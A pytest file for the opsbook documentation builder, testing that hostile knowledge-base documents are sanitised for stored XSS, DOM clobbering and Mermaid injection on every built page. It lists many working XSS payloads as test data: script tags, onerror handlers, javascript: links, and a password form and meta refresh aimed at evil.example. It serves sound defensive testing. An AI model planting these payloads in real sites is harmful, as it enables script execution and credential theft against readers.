"""Stored XSS: what reaches readers when the documents themselves are hostile.

Anyone who can open a pull request writes document text, and the site publishes it
to everyone who reads the knowledge base. Whichever builder publishes the site (the
opsbook MkDocs plugin, or `opsbook render` followed by Zensical or a plain MkDocs
build), a document page must not carry script, event handlers, unsafe links,
forms, styles, or elements that take over the theme's own (DOM clobbering), while
the harmless Markdown around a payload still renders. Plain-text fields are text
everywhere the theme prints them: the page, its <title>, the navigation, the meta
description and the search index. Flowchart labels cannot speak Mermaid.

One hostile knowledge base is built once per builder (the fixture `hostile`), and
every test asserts on the built HTML, parsed into elements where structure matters.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from site_factory import (
    BUILDERS,
    COMPANY_BASICS_DOC,
    OVERDUE_RUNBOOK_DOC,
    PAYMENTS_OPS_DOC,
    PRODUCT_OPS_DOC,
    Element,
    build,
    build_with,
    mkdocs_yml,
    page,
    parse_html,
    run_opsbook,
    write_site,
)

# --- Hostile text ------------------------------------------------------------------

HOSTILE_MARKDOWN: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "Text with <img src=x onerror=alert(1)> inline.",
    "<script>alert(1)</script>",
    "Inline <script>alert(1)</script> script.",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[x](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1)) and [b]( javascript:alert(1)) and ![c](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a> <a href="java&#x09;script:alert(1)">y</a>',
    '<a href=" javascript:alert(1)">x</a> <a href="vbscript:msgbox(1)">y</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'A paragraph with a handler\n{: onclick="alert(1)" }',
    '**attr**{: onclick="alert(1)" onmouseover="alert(1)" }',
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    '<form action="https://evil.example/"><input type=password name=pw></form>',
    "<style>body { display: none }</style>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<div markdown="1" onmouseover="alert(1)">**in html**</div>',
    "<!-- opsbook:html\n<script>alert(1)</script>\n/opsbook:html -->",
)
"""Markdown that tries to run script, leave the page or hide it."""

CLOBBERING: tuple[str, ...] = (
    '<p id="__config">clobber</p>',
    '<div id="__search">clobber</div>',
    '<a name="__md_scope">clobber</a>',
    '<img name="document$" src="x.png">',
    '<div data-md-component="search">clobber</div>',
    '<div data-md-state="x">clobber</div>',
    "Clobber by attribute list\n{: #__config }",
    'Clobber by attribute list\n{: data-md-component="search" }',
)
"""Markdown that tries to give elements the ids, names and data-md-* of Material's."""

PAYLOADS = HOSTILE_MARKDOWN + CLOBBERING

CLOBBERED_IDS = ("__config", "__search")
CLOBBERED_NAMES = ("__md_scope", "document$")

PLAIN = "<img src=x onerror=alert(1)>"
BREAKOUT = '"><script>alert(1)</script>'
"""Plain-text payloads: as text they are harmless, as HTML they run."""

FORBIDDEN_ELEMENTS = frozenset(
    {"script", "iframe", "object", "embed", "form", "style", "meta", "svg", "link", "base"}
)
UNSAFE_SCHEME = re.compile(r"(javascript|vbscript|data):", re.IGNORECASE)
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")


def keep(field: str, index: int, where: str) -> str:
    """The word a field's harmless Markdown makes bold around payload `index`."""
    return f"keep-{field}-{index}-{where}"


def hostile_markdown(field: str, index: int, payload: str) -> str:
    """A payload between two paragraphs of harmless Markdown that must still render."""
    return f"**{keep(field, index, 'before')}**\n\n{payload}\n\n**{keep(field, index, 'after')}**"


def yaml_block(text: str, indent: int) -> str:
    """`text` as a YAML literal block scalar, its lines indented by `indent` spaces."""
    pad = " " * indent
    return "|-\n" + "\n".join(pad + line if line else "" for line in text.split("\n"))


def yaml_escaped(text: str) -> str:
    """`text` as a YAML double-quoted scalar whose source shows no `<`, `>`, quote or
    `javascript`: every such character is written as a `\\xNN` escape."""
    escaped = "".join(
        f"\\x{ord(char):02x}" if char in "<>\"'&\\j" or not char.isprintable() else char
        for char in text
    )
    return f'"{escaped}"'


def scalar(text: str, indent: int, *, escaped: bool) -> str:
    return yaml_escaped(text) if escaped else yaml_block(text, indent)


BODY = "\n\n".join(
    [
        "## Background",
        "The provider signs every webhook.[^1]",
        *(hostile_markdown("body", index, payload) for index, payload in enumerate(PAYLOADS)),
        "## __config",
        "[^1]: The provider's documentation.",
    ]
)
"""The Markdown body of a Markdown document: a heading and a footnote that keep their
ids, every payload, and a heading whose toc id would be the theme's `__config`."""


def runbook(doc_id: str, *, escaped: bool) -> str:
    steps = "".join(
        f"  - title: Step {index}\n"
        f"    details: {scalar(hostile_markdown('steps', index, payload), 6, escaped=escaped)}\n"
        for index, payload in enumerate(PAYLOADS)
    )
    rollback = "".join(
        f"  - title: Undo {index}\n"
        f"    details: {scalar(hostile_markdown('rollback', index, payload), 6, escaped=escaped)}\n"
        for index, payload in enumerate(PAYLOADS)
    )
    return (
        "kind: runbook\n"
        f"id: {doc_id}\n"
        f"title: Hostile runbook {doc_id}\n"
        "summary: Step details with hostile HTML.\n"
        "owner: product-ops\n"
        "service: checkout\n"
        "review: {last_reviewed: 2026-10-01, every_days: 90}\n"
        "symptoms: [Someone wrote hostile details]\n"
        f"steps:\n{steps}"
        f"rollback:\n{rollback}"
    )


def process(doc_id: str, *, escaped: bool) -> str:
    steps = "".join(
        f"  - id: step-{index}\n"
        f"    title: Step {index}\n"
        "    role: lead\n"
        f"    details: {scalar(hostile_markdown('details', index, payload), 6, escaped=escaped)}\n"
        for index, payload in enumerate(PAYLOADS)
    )
    return (
        "kind: process\n"
        f"id: {doc_id}\n"
        f"title: Hostile process {doc_id}\n"
        "summary: Process step details with hostile HTML.\n"
        "owner: product-ops\n"
        "review: {last_reviewed: 2026-09-15, every_days: 180}\n"
        "purpose: Show hostile details.\n"
        "trigger: A test runs.\n"
        "roles: {lead: Lead}\n"
        f"steps:\n{steps}"
    )


def feature_guide(doc_id: str, *, escaped: bool) -> str:
    faq = "".join(
        f"  - q: Question {index}?\n"
        f"    a: {scalar(hostile_markdown('faq', index, payload), 6, escaped=escaped)}\n"
        for index, payload in enumerate(PAYLOADS)
    )
    return (
        "kind: feature-guide\n"
        f"id: {doc_id}\n"
        f"title: Hostile guide {doc_id}\n"
        "summary: FAQ answers with hostile HTML.\n"
        "owner: product-ops\n"
        "status: beta\n"
        "audience: [support]\n"
        f"faq:\n{faq}"
    )


@dataclass(frozen=True)
class HostileDoc:
    """A document whose Markdown fields are all hostile, and where its page is."""

    path: str
    url: str
    fields: tuple[str, ...]
    """The Markdown fields it has, as `keep` names them."""


def hostile_documents() -> Iterator[tuple[HostileDoc, str]]:
    kinds = (
        ("runbook", "runbooks", runbook, ("steps", "rollback")),
        ("process", "processes", process, ("details",)),
        ("guide", "features", feature_guide, ("faq",)),
    )
    for name, folder, write, fields in kinds:
        for written in ("yaml", "md"):
            for escaped in (False, True):
                doc_id = f"hostile-{name}-{written}{'-escaped' if escaped else ''}"
                text = write(doc_id, escaped=escaped)
                if written == "md":
                    text = f"---\n{text}---\n{BODY}\n"
                path = f"{folder}/{doc_id}.{written}"
                body = ("body",) if written == "md" else ()
                yield HostileDoc(path, f"{folder}/{doc_id}/", fields + body), text


HOSTILE_DOCS = [doc for doc, _ in hostile_documents()]


def quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar (JSON is valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


TITLE = f"Title {PLAIN} {BREAKOUT}"
SUMMARY = f"Summary {PLAIN} {BREAKOUT}"
SYMPTOM = f"Symptom {PLAIN} {BREAKOUT}"
STEP_TITLE = f"Step {PLAIN} {BREAKOUT}"
TAG = f"tag {PLAIN} {BREAKOUT}"
COMMAND = f"echo {PLAIN}\n```\n{BREAKOUT}\n```"
EXPECT = f"Expect {PLAIN} {BREAKOUT}"
TEAM_TITLE = f"Team {PLAIN} {BREAKOUT}"
MEMBER = f"Member {PLAIN} {BREAKOUT}"
ROLE = f"Role {PLAIN} {BREAKOUT}"

CONTACTS = (
    "javascript:alert(1)",
    'https://evil.example/" onmouseover="alert(1)',
    "JaVaScRiPt:alert(1)//@evil.example",
    "x@evil.example?subject=<script>alert(1)</script>",
    f"{PLAIN}@evil.example",
)
"""Contacts that a page turns into links when they look like an address."""

TEXT_URL = "runbooks/hostile-text/"
TEAM_URL = "teams/hostile-team/"

HOSTILE_TEXT_DOC = f"""\
kind: runbook
id: hostile-text
title: {quoted(TITLE)}
summary: {quoted(SUMMARY)}
owner: hostile-team
service: checkout
review: {{last_reviewed: 2026-10-01, every_days: 90}}
symptoms: [{quoted(SYMPTOM)}]
tags: [{quoted(TAG)}]
steps:
  - title: {quoted(STEP_TITLE)}
    command: {quoted(COMMAND)}
    expect: {quoted(EXPECT)}
escalation:
  - {{after_minutes: 0, contact: hostile-team}}
"""
"""Every plain-text field holds HTML that would run if it were not escaped."""

CONTACT_MEMBERS = "".join(
    f"  - {{name: Contact {index}, role: r, contact: {quoted(contact)}}}\n"
    for index, contact in enumerate(CONTACTS)
)

HOSTILE_TEAM_DOC = f"""\
kind: team
id: hostile-team
title: {quoted(TEAM_TITLE)}
summary: {quoted(SUMMARY)}
members:
  - name: {quoted(MEMBER)}
    role: {quoted(ROLE)}
{CONTACT_MEMBERS}channels: {{chat: {quoted(CONTACTS[0])}, pager: {quoted(CONTACTS[1])}}}
"""

PATH_URL = "onboarding/hostile-path/"
MODULE_URL = 'https://evil.example/"><script>alert(1)</script>'
MODULE_TASK = f"Task {PLAIN} {BREAKOUT}"
HOSTILE_PATH_DOC = f"""\
kind: onboarding-path
id: hostile-path
title: Hostile path
summary: Modules with hostile text and links.
owner: product-ops
audience: {quoted(f"Audience {PLAIN}")}
outcomes: [{quoted(f"Outcome {BREAKOUT}")}]
modules:
  - {{title: {quoted(f"Module {PLAIN}")}, url: {quoted(MODULE_URL)}, minutes: 5}}
  - {{title: Task, task: {quoted(MODULE_TASK)}, minutes: 5}}
"""
"""A module link may hold quotes and angle brackets: an https URL has no white space."""

HOSTILE_FILE_NAME = 'runbooks/x"><img src=x onerror=alert(1)>.yaml'
"""A pull request names its files too: this one appears in the changelog and the URLs."""

MERMAID_URL = "processes/mermaid-labels/"
DIRECTIVE = '%%{init: {"theme": "dark", "securityLevel": "loose"}}%%'
BACKTICKS = "`**bold**`"
ANSWER = 'yes "really" | sure'
ARROW = "A --> end"
SLASHES = "back\\slash #35; & ]) |"
MERMAID_DOC = f"""\
kind: process
id: mermaid-labels
title: Mermaid labels
summary: Step titles and answers that speak Mermaid.
owner: product-ops
review: {{last_reviewed: 2026-09-15, every_days: 180}}
purpose: Show that labels stay labels.
trigger: A test runs.
roles: {{lead: Lead}}
steps:
  - id: directive
    title: {quoted(DIRECTIVE)}
    role: lead
  - id: ticks
    title: {quoted(BACKTICKS)}
    role: lead
  - id: ask
    title: Ask
    decision: {quoted('Is it "fine" | or {not}?')}
    role: lead
    next: {{{quoted(ANSWER)}: arrow, {quoted("no %%{x}%% `y` end")}: html}}
  - id: arrow
    title: {quoted(ARROW)}
    role: lead
    next: [end]
  - id: html
    title: {quoted(f"{PLAIN} end")}
    role: lead
  - id: keyword
    title: end
    role: lead
  - id: slashes
    title: {quoted(SLASHES)}
    role: lead
"""


def hostile_kb() -> dict[str, str]:
    files = {
        "index.md": "# Knowledge base\n\nWelcome.\n",
        "teams/product-ops.yaml": PRODUCT_OPS_DOC,
        "teams/payments-ops.yaml": PAYMENTS_OPS_DOC,
        "teams/hostile-team.yaml": HOSTILE_TEAM_DOC,
        "onboarding/company-basics.yaml": COMPANY_BASICS_DOC,
        "runbooks/hostile-text.yaml": HOSTILE_TEXT_DOC,
        "processes/mermaid-labels.yaml": MERMAID_DOC,
        "onboarding/hostile-path.yaml": HOSTILE_PATH_DOC,
        HOSTILE_FILE_NAME: OVERDUE_RUNBOOK_DOC,
    }
    files.update((doc.path, text) for doc, text in hostile_documents())
    return files


CONFIG = mkdocs_yml(extra="markdown_extensions:\n  - footnotes\n")
"""The usual test site, with footnotes so that their ids can be checked."""


# --- The built sites ---------------------------------------------------------------


@dataclass
class BuiltSite:
    """The hostile knowledge base as one builder published it."""

    builder: str
    folder: Path

    def html(self, url: str) -> str:
        return page(self.folder, url)

    def tree(self, url: str) -> Element:
        return parse_html(self.html(url))

    def article(self, url: str) -> Element:
        return self.tree(url).find("article", cls="md-content__inner")

    def search_index(self) -> Path:
        """The search index: search/search_index.json (MkDocs) or search.json (Zensical)."""
        found = [
            path
            for path in (self.folder / "search" / "search_index.json", self.folder / "search.json")
            if path.is_file()
        ]
        assert len(found) == 1, f"{self.builder}: no single search index in {self.folder}"
        return found[0]


@pytest.fixture(scope="module", params=BUILDERS)
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    """The hostile knowledge base, built once per builder."""
    builder = str(request.param)
    root = tmp_path_factory.mktemp(f"hostile-{builder}") / "kb"
    config_file = write_site(root, hostile_kb(), config=CONFIG)
    return BuiltSite(builder, build_with(builder, config_file))


# --- What a page must not contain --------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset")
DANGEROUS_ATTRIBUTES = frozenset({"srcdoc", "formaction", "xlink:href"})


def event_handlers(root: Element) -> list[str]:
    """`<tag attribute>` for every event handler (on*) or other attribute that runs or
    loads a document (srcdoc, formaction)."""
    return [
        f"<{element.tag} {name}={value!r}>"
        for element in root.iter()
        for name, value in element.attrs.items()
        if name.lower().startswith("on") or name.lower() in DANGEROUS_ATTRIBUTES
    ]


def forbidden_elements(root: Element) -> list[str]:
    return [
        f"<{element.tag} {element.attrs}>"
        for element in root.iter()
        if element.tag in FORBIDDEN_ELEMENTS
    ]


def unsafe_urls(root: Element) -> list[str]:
    """Links and sources that run script, as a browser reads them: white space and
    control characters anywhere in the scheme are ignored, letters in any case."""
    found = []
    for element in root.iter():
        for name in URL_ATTRIBUTES:
            value = element.attrs.get(name)
            if value is not None and UNSAFE_SCHEME.match(_IGNORED_IN_URLS.sub("", value)):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def hostile_scripts(root: Element) -> list[str]:
    """Script elements that a document wrote (the theme's never call alert)."""
    return [
        element.raw_text[:80]
        for element in root.find_all("script")
        if "alert(" in element.raw_text or "alert(" in element.attrs.get("src", "")
    ]


def doc_ids(docs: Sequence[HostileDoc]) -> list[str]:
    return [doc.path for doc in docs]


# --- 1. Markdown fields: hostile HTML in every form ---------------------------------


def test_escaped_documents_write_their_html_without_a_visible_angle_bracket() -> None:
    """The escaped variants test what they claim: a diff of them shows no `<`."""
    escaped = [
        text
        for doc, text in hostile_documents()
        if doc.path.split("/")[1].endswith(("-escaped.yaml", "-escaped.md"))
    ]
    assert len(escaped) == 6
    for text in escaped:
        front_matter = text.split("\n---\n")[0]
        assert "<" not in front_matter
        assert "javascript" not in front_matter
        assert "\\x3c" in front_matter


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_hostile_markdown_leaves_no_event_handler_on_the_page(
    hostile: BuiltSite, doc: HostileDoc
) -> None:
    assert event_handlers(hostile.tree(doc.url)) == []


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_hostile_markdown_leaves_no_script_frame_form_style_or_meta_in_the_article(
    hostile: BuiltSite, doc: HostileDoc
) -> None:
    assert forbidden_elements(hostile.article(doc.url)) == []


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_hostile_markdown_leaves_no_script_link_in_the_article(
    hostile: BuiltSite, doc: HostileDoc
) -> None:
    article = hostile.article(doc.url)
    assert unsafe_urls(article) == []
    assert hostile_scripts(hostile.tree(doc.url)) == []


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_markdown_around_every_payload_still_renders(hostile: BuiltSite, doc: HostileDoc) -> None:
    """The sanitizer removes the payload, not the field: the bold words before and after
    each payload are still <strong>."""
    article = hostile.article(doc.url)
    bold = {element.text for element in article.find_all("strong")}
    expected = {
        keep(field, index, where)
        for field in doc.fields
        for index in range(len(PAYLOADS))
        for where in ("before", "after")
    }
    assert sorted(expected - bold) == []


def test_no_page_of_the_site_runs_hostile_script(hostile: BuiltSite) -> None:
    """Every page, with its navigation, catalogs, team pages and changelog, which all
    print document text (and the changelog file names: one of them is hostile)."""
    pages = sorted(hostile.folder.rglob("*.html"))
    assert len(pages) > len(HOSTILE_DOCS)
    problems = {}
    for path in pages:
        tree = parse_html(path.read_text(encoding="utf-8"))
        found = event_handlers(tree) + unsafe_urls(tree) + hostile_scripts(tree)
        if found:
            problems[str(path.relative_to(hostile.folder))] = found
    assert problems == {}


# --- 2. DOM clobbering --------------------------------------------------------------


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_document_text_takes_no_id_name_or_data_md_attribute_of_the_theme(
    hostile: BuiltSite, doc: HostileDoc
) -> None:
    article = hostile.article(doc.url)
    clobbering = [
        f"<{element.tag} {name}={value!r}>"
        for element in article.iter()
        for name, value in element.attrs.items()
        if (name == "id" and value in CLOBBERED_IDS)
        or (name == "name" and value in CLOBBERED_NAMES)
        or name.startswith("data-md-")
    ]
    assert clobbering == []


@pytest.mark.parametrize("doc", HOSTILE_DOCS, ids=doc_ids(HOSTILE_DOCS))
def test_the_themes_config_script_is_the_only_element_with_its_id(
    hostile: BuiltSite, doc: HostileDoc
) -> None:
    tree = hostile.tree(doc.url)
    assert [element.tag for element in tree.find_all(id="__config")] == ["script"]
    assert len(tree.find_all(id="__search")) <= 1
    assert [name for name in CLOBBERED_NAMES if tree.find_all(name=name)] == []


BODY_DOCS = [doc for doc in HOSTILE_DOCS if "body" in doc.fields]


@pytest.mark.parametrize("doc", BODY_DOCS, ids=doc_ids(BODY_DOCS))
def test_headings_of_the_body_keep_their_toc_ids(hostile: BuiltSite, doc: HostileDoc) -> None:
    article = hostile.article(doc.url)
    headings = {
        element.text.removesuffix("¶").strip(): element for element in article.find_all("h2")
    }
    assert headings["Background"].attrs.get("id") == "background"
    assert headings["__config"].attrs.get("id") != "__config"


@pytest.mark.parametrize("doc", BODY_DOCS, ids=doc_ids(BODY_DOCS))
def test_footnotes_of_the_body_keep_their_ids(hostile: BuiltSite, doc: HostileDoc) -> None:
    article = hostile.article(doc.url)
    if not article.find_all(cls="footnote") and not article.find_all(cls="footnote-ref"):
        pytest.skip(f"{hostile.builder} has no footnotes extension")
    assert article.find_all("sup", id="fnref:1") != []
    assert article.find_all("li", id="fn:1") != []
    assert article.find("a", cls="footnote-ref").attrs["href"] == "#fn:1"


# --- 3. Plain-text fields -----------------------------------------------------------


def test_plain_text_fields_show_as_text_on_their_page(hostile: BuiltSite) -> None:
    article = hostile.article(TEXT_URL)
    assert article.find("h1").text == TITLE
    assert article.find("p", cls="opsbook-summary").text == SUMMARY
    assert [item.text for item in article.find("ul", cls="opsbook-symptoms").find_all("li")] == [
        SYMPTOM
    ]
    assert article.find("span", cls="opsbook-step__title").text == STEP_TITLE
    assert article.find("code").raw_text.rstrip("\n") == COMMAND
    assert EXPECT in article.find("div", cls="opsbook-step__expect").text
    assert TAG in article.text


@pytest.mark.parametrize("url", [TEXT_URL, TEAM_URL, PATH_URL])
def test_plain_text_fields_never_become_elements(hostile: BuiltSite, url: str) -> None:
    tree = hostile.tree(url)
    assert hostile.article(url).find_all("img") == []
    assert hostile_scripts(tree) == []
    assert event_handlers(tree) == []


def test_module_links_keep_their_url_whole_and_their_text_as_text(hostile: BuiltSite) -> None:
    article = hostile.article(PATH_URL)
    links = [
        link
        for link in article.find_all("a")
        if link.attrs.get("href", "").startswith("https://evil.example/")
    ]
    assert [link.attrs["href"] for link in links] == [MODULE_URL]
    assert f"Module {PLAIN}" in article.text
    assert MODULE_TASK in article.text
    assert f"Audience {PLAIN}" in article.text
    assert f"Outcome {BREAKOUT}" in article.text
    assert article.find_all("img") == []


def test_team_page_shows_names_and_what_it_owns_as_text(hostile: BuiltSite) -> None:
    article = hostile.article(TEAM_URL)
    assert article.find("h1").text == TEAM_TITLE
    assert MEMBER in article.text
    assert ROLE in article.text
    owned = [
        link
        for link in article.find_all("a")
        if link.attrs.get("href", "").endswith("runbooks/hostile-text/")
    ]
    assert [link.text for link in owned] == [TITLE]
    # The summary goes with the link: as its tooltip, or as text beside it.
    assert owned[0].attrs.get("title", SUMMARY) == SUMMARY
    assert "title" in owned[0].attrs or SUMMARY in owned[0].closest("li").text


def test_link_tooltips_hold_the_summary_as_text(hostile: BuiltSite) -> None:
    """A summary in an attribute cannot close it: every tooltip of a link to the hostile
    team is exactly its summary."""
    links = [
        link
        for link in hostile.article(TEXT_URL).find_all("a")
        if link.attrs.get("href", "").endswith("teams/hostile-team/")
    ]
    assert links != []
    assert {link.attrs.get("title", SUMMARY) for link in links} == {SUMMARY}
    assert {link.text for link in links} == {TEAM_TITLE}


SAFE_LINK = re.compile(r"(https|mailto):", re.IGNORECASE)


@pytest.mark.parametrize("url", [TEXT_URL, TEAM_URL])
def test_contacts_are_text_or_links_to_mail_and_https_only(hostile: BuiltSite, url: str) -> None:
    """A member's contact and a team's channels become links only when they are an
    address (on the team page, and in a runbook's escalation)."""
    article = hostile.article(url)
    absolute = [
        link.attrs["href"]
        for link in article.find_all("a")
        if re.match(r"[a-z][\w+.-]*:", _IGNORED_IN_URLS.sub("", link.attrs.get("href", "")), re.I)
    ]
    assert [href for href in absolute if not SAFE_LINK.match(href)] == []
    shown = CONTACTS if url == TEAM_URL else CONTACTS[:2]
    assert [contact for contact in shown if contact not in article.text] == []


@pytest.mark.parametrize("url", [TEXT_URL, TEAM_URL])
def test_page_title_element_shows_the_title_as_text(hostile: BuiltSite, url: str) -> None:
    raw = re.search(r"<title>(.*?)</title>", hostile.html(url), re.S)
    assert raw is not None
    assert "<" not in raw.group(1)
    title = TITLE if url == TEXT_URL else TEAM_TITLE
    assert html.unescape(raw.group(1)).startswith(title)


def test_navigation_shows_titles_as_text(hostile: BuiltSite) -> None:
    tree = hostile.tree("")
    navigation = [element.text for element in tree.find_all("a", cls="md-nav__link")]
    assert TITLE in navigation
    assert TEAM_TITLE in navigation


def test_meta_description_is_the_summary_as_text(hostile: BuiltSite) -> None:
    descriptions = hostile.tree(TEXT_URL).find_all("meta", name="description")
    assert [meta.attrs.get("content") for meta in descriptions] == [SUMMARY]


def test_search_index_holds_plain_text_escaped(hostile: BuiltSite) -> None:
    raw = hostile.search_index().read_text(encoding="utf-8")
    assert re.findall(r"<(?:img|script|svg|iframe)", raw, re.IGNORECASE) == []
    index = json.loads(raw)
    entries = index.get("docs") or index.get("items") or []
    page_entry = next(entry for entry in entries if entry["location"] == TEXT_URL)
    # The theme shows titles and text as HTML: as HTML they read as the plain text.
    title = parse_html(page_entry["title"])
    assert title.text == TITLE
    text = " ".join(
        parse_html(entry["text"]).text
        for entry in entries
        if entry["location"].startswith(TEXT_URL)
    )
    for value in (SUMMARY, SYMPTOM, STEP_TITLE, EXPECT):
        assert value in text
    for entry in entries:
        for value in (entry.get("title", ""), entry.get("text", "")):
            tree = parse_html(value)
            assert event_handlers(tree) + forbidden_elements(tree) == [], entry["location"]


# --- 4. Mermaid ---------------------------------------------------------------------

_LABEL = r'[^"%{}`\\<>|]*'
CHART_LINE = re.compile(
    rf"""\s*(?:
        flowchart\ TD
      | \w+(?:\["{_LABEL}"\]|\{{"{_LABEL}"\}}|\(\["{_LABEL}"\]\))
      | \w+\ -->(?:\|"{_LABEL}"\|)?\ \w+
      | classDef\ \w+\ [\w:#,]+
      | class\ [\w,]+\ \w+
    )""",
    re.VERBOSE,
)
"""A line of a chart whose every label is quoted and holds no Mermaid syntax."""
_QUOTED = re.compile(r'(?:\["|\{"|\(\["|\|")(.*?)(?:"\]|"\}|"\]\)|"\|)')
_ENTITY = re.compile(r"#(\d+|[a-z]+);")


def chart_source(site: BuiltSite, url: str) -> str:
    """The Mermaid source as the browser hands it to Mermaid (entities unescaped)."""
    return site.article(url).find("pre", cls="mermaid").raw_text


def chart_labels(source: str) -> list[str]:
    """Every label as Mermaid shows it: its entity codes (`#quot;`, `#35;`) decoded."""

    def decode(found: re.Match[str]) -> str:
        code = found.group(1)
        return chr(int(code)) if code.isdigit() else html.unescape(f"&{code};")

    return [_ENTITY.sub(decode, label) for label in _QUOTED.findall(source)]


def test_flowchart_labels_cannot_speak_mermaid(hostile: BuiltSite) -> None:
    source = chart_source(hostile, MERMAID_URL)
    assert "%%{" not in source
    assert "`" not in source
    lines = [line for line in source.splitlines() if line.strip()]
    assert [line for line in lines if not CHART_LINE.fullmatch(line)] == []


def test_flowchart_labels_still_say_what_the_titles_say(hostile: BuiltSite) -> None:
    labels = chart_labels(chart_source(hostile, MERMAID_URL))
    for title in (DIRECTIVE, BACKTICKS, ARROW, ANSWER, SLASHES, f"{PLAIN} end", "end"):
        assert title in labels


# --- 5. Charts too big for Mermaid ---------------------------------------------------

MERMAID_MAX_TEXT = 50_000
"""Mermaid's default `maxTextSize`: it refuses longer chart source with an error."""
VISIBLE_LABEL_LIMIT = 80


def process_kb(steps: Sequence[str]) -> dict[str, str]:
    """A knowledge base of one team and the process `big` with these steps (YAML items)."""
    process_doc = (
        "kind: process\n"
        "id: big\n"
        "title: Big process\n"
        "summary: A process with very many or very long steps.\n"
        "owner: product-ops\n"
        "review: {last_reviewed: 2026-09-15, every_days: 180}\n"
        "purpose: Find the limits of a flowchart.\n"
        "trigger: A test runs.\n"
        "roles: {lead: Lead}\n"
        "steps:\n" + "".join(steps)
    )
    return {
        "index.md": "# Knowledge base\n",
        "teams/product-ops.yaml": PRODUCT_OPS_DOC,
        "processes/big.yaml": process_doc,
    }


TOO_LARGE = re.compile(
    r"^docs/processes/big\.yaml:\d+:\d+: error: .*(too (large|big|many)|more than).*split",
    re.MULTILINE | re.IGNORECASE,
)
"""A validation message at the process, saying it is too big and how to split it."""


def validate(root: Path) -> tuple[int, str]:
    result = run_opsbook(root, "validate")
    assert "Traceback" not in result.stderr, result.stderr
    return result.returncode, result.stdout + result.stderr


def test_a_process_with_300_decisions_is_refused_with_where_and_how_to_split_it(
    tmp_path: Path,
) -> None:
    steps = [
        f"  - id: s{index}\n"
        f"    title: Step {index}\n"
        "    role: lead\n"
        f"    decision: Go on after step {index}?\n"
        f"    next: {{yes: {f's{index + 1}' if index < 299 else 'end'}, no: end}}\n"
        for index in range(300)
    ]
    write_site(tmp_path, process_kb(steps), config=CONFIG, git=False)
    status, output = validate(tmp_path)
    assert status == 1, output
    assert TOO_LARGE.search(output), output


def assert_chart_is_readable(site: Path) -> Element:
    """The process page draws a chart Mermaid accepts (or says it is too large to draw);
    its article."""
    article = parse_html(page(site, "processes/big/")).find("article", cls="md-content__inner")
    charts = article.find_all("pre", cls="mermaid")
    if not charts:
        assert "too large" in article.text
        return article
    source = charts[0].raw_text
    assert len(source) < MERMAID_MAX_TEXT
    labels = chart_labels(source)
    assert labels
    assert [label for label in labels if len(label) > VISIBLE_LABEL_LIMIT] == []
    return article


def test_steps_with_very_long_titles_draw_a_chart_mermaid_accepts(tmp_path: Path) -> None:
    phrase = 'Check the "carrier" quote & route {fast} #1 for every parcel; '
    titles = [f"Step {index}: " + (phrase * 30)[:1300].strip() for index in range(40)]
    assert all(len(title) >= 1300 for title in titles)
    steps = [
        f"  - id: s{index}\n    title: {quoted(title)}\n    role: lead\n"
        for index, title in enumerate(titles)
    ]
    write_site(tmp_path, process_kb(steps), config=CONFIG, git=False)
    status, output = validate(tmp_path)
    if status != 0:
        assert status == 1, output
        assert TOO_LARGE.search(output), output
        return
    article = assert_chart_is_readable(build(tmp_path / "mkdocs.yml"))
    assert article.find_all("pre", cls="mermaid") != []
    # The chart is cut short; the page still lists every step in full.
    text = article.text
    assert [index for index, title in enumerate(titles) if title not in text] == []


QUOTES = '"' * 45


def test_the_largest_process_validation_accepts_draws_something_readable(tmp_path: Path) -> None:
    """100 decisions of three answers each (300 transitions), every title and answer made
    of characters that Mermaid must write as entity codes (`#quot;`), six times longer."""
    steps = []
    for index in range(100):
        target = f"s{index + 1}" if index < 99 else "end"
        answers = ", ".join(f"{quoted(QUOTES + f'{index}-{k}')}: {target}" for k in range(3))
        steps.append(
            f"  - id: s{index}\n"
            f"    title: {quoted('&' * 200)}\n"
            "    role: lead\n"
            f"    decision: {quoted('#' * 200)}\n"
            f"    next: {{{answers}}}\n"
        )
    write_site(tmp_path, process_kb(steps), config=CONFIG, git=False)
    status, output = validate(tmp_path)
    if status != 0:
        assert status == 1, output
        assert TOO_LARGE.search(output), output
        return
    assert_chart_is_readable(build(tmp_path / "mkdocs.yml"))


# --- 6. Nothing of opsbook's machinery on the page -----------------------------------

PAGE_URLS = [doc.url for doc in HOSTILE_DOCS] + [TEXT_URL, TEAM_URL, MERMAID_URL, ""]
MARKERS = ("opsbook:html", "opsbook:markdown", "opsbook:document")
PLACEHOLDERS = ("\x02", "\x03", "wzxhzdk")


def article_html(page_html: str) -> str:
    """The raw HTML of the article, comments included (the element tree drops them)."""
    start = page_html.index('<article class="md-content__inner')
    return page_html[start : page_html.rindex("</article>")]


@pytest.mark.parametrize("url", PAGE_URLS, ids=[url or "home" for url in PAGE_URLS])
def test_no_opsbook_markers_or_markdown_placeholders_reach_the_page(
    hostile: BuiltSite, url: str
) -> None:
    page_html = hostile.html(url)
    article = article_html(page_html)
    assert [marker for marker in MARKERS if marker in article] == []
